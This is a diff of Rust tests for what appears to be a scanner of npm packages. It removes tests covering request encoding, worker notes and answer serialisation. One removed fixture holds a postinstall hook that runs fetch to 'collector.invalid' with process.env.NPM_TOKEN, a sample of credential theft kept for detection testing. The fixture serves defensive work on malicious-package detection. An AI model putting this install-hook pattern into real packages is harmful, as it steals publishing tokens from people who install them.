@@ -1,6 +1,6 @@
-use super::request::{Asked, AskedContent};
 use super::*;
-use lazaret_analysis::{History, Outcome, Severity};
+use lazaret_analysis::{Outcome, Severity};
+use lazaret_inspector::{Deadly, worker};
 
 /// What a worker would answer, and its notes.
 fn asked(request: &Request<'_>) -> (Answer, Vec<String>) {
@@ -40,76 +40,6 @@ fn input(name: &str) -> Input {
         input: name.to_owned(),
         ..Input::default()
     }
-}
-
-#[test]
-fn a_request_is_read_as_it_was_written() {
-    let before = files(&[("package.json", "{}"), ("leer", ""), ("lib/ä.js", "a()")]);
-    let history = History {
-        publisher_after: Some("somebody".to_owned()),
-        ..History::default()
-    };
-    let incomplete = ["a reason".to_owned()];
-    let request = Request {
-        packages: vec![
-            given(&before),
-            Given {
-                content: Content::Tarball(b"\x1f\x8b and more"),
-                manifest: Some("{\"name\":\"a\"}"),
-                incomplete: &incomplete,
-                published: true,
-            },
-        ],
-        history: Some(&history),
-        excerpts: true,
-        deadly: Vec::new(),
-    };
-    let bytes = request.encoded().unwrap().pieces().concat();
-    let read = Asked::read(&bytes).unwrap();
-    assert_eq!(read.history, Some(history));
-    assert!(read.excerpts);
-    let AskedContent::Files(read_files) = &read.packages[0].content else {
-        panic!("files stay files");
-    };
-    let read_files = read_files.iter();
-    let read_files: Vec<_> = read_files
-        .map(|(path, bytes)| (path.clone(), bytes.to_vec()))
-        .collect();
-    assert_eq!(read_files, before);
-    let tarball = &read.packages[1];
-    let AskedContent::Tarball(read_bytes) = &tarball.content else {
-        panic!("a tarball stays a tarball");
-    };
-    assert_eq!(&read_bytes[..], b"\x1f\x8b and more");
-    assert_eq!(tarball.manifest.as_deref(), Some("{\"name\":\"a\"}"));
-    assert_eq!(tarball.incomplete, ["a reason"]);
-    assert!(tarball.published && !read.packages[0].published);
-
-    // Nothing shorter or longer is a request.
-    for end in 0..bytes.len() {
-        assert!(Asked::read(&bytes[..end]).is_none(), "{end} bytes");
-    }
-    assert!(Asked::read(&[&bytes[..], b"x"].concat()).is_none());
-    assert!(matches!(worker::answer(b"", &mut |_| {}), Answer::Confused));
-}
-
-#[test]
-fn each_file_is_noted_before_it_is_read() {
-    let package = files(&[("package.json", "{\"name\":\"a\"}"), ("index.js", "b()")]);
-    let (answer, notes) = asked(&request(vec![given(&package), given(&package)]));
-    assert!(matches!(answer, Answer::Change { .. }));
-    for note in ["0", "0index.js", "1", "1index.js", "1package.json"] {
-        assert!(
-            notes.iter().any(|noted| noted == note),
-            "{note} in {notes:?}"
-        );
-    }
-    assert_eq!(
-        worker::read_note(b"1lib/a.js"),
-        Some((1, Some("lib/a.js".to_owned())))
-    );
-    assert_eq!(worker::read_note(b"0"), Some((0, None)));
-    assert_eq!(worker::read_note(b""), None);
 }
 
 #[test]
@@ -164,30 +94,6 @@ fn bytes_that_are_no_archive_are_no_package_unless_a_registry_has_them() {
 }
 
 #[test]
-fn an_answer_survives_the_way_to_the_parent() {
-    let package = files(&[
-        (
-            "package.json",
-            "{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"node setup.js\"}}",
-        ),
-        (
-            "setup.js",
-            "fetch(\"https://collector.invalid/\" + process.env.NPM_TOKEN)",
-        ),
-    ]);
-    let nothing = files(&[("package.json", "{\"name\":\"a\",\"version\":\"0.9.0\"}")]);
-    for packages in [
-        vec![given(&package)],
-        vec![given(&nothing), given(&package)],
-    ] {
-        let (answer, _) = asked(&request(packages));
-        let written = serde_json::to_string(&answer).unwrap();
-        let read: Answer = serde_json::from_str(&written).unwrap();
-        assert_eq!(serde_json::to_string(&read).unwrap(), written);
-    }
-}
-
-#[test]
 fn minified_code_is_shown_round_what_was_found() {
     let filler = "function q(a){return a.b?a.c(1,2,3):a.d[4]}".repeat(100);
     let code = format!(
@@ -214,6 +120,7 @@ fn a_worker_without_an_answer_holds_the_package() {
         package,
         file: Some("lib/deep.js".to_owned()),
         why: "the worker's stack overflowed".to_owned(),
+        surroundings: false,
     };
     let one = Document::of(Err(unfinished(0)), vec![input("@scope/a@1.0.0")]);
     assert_eq!(one.id(), ("@scope/a", "1.0.0"));
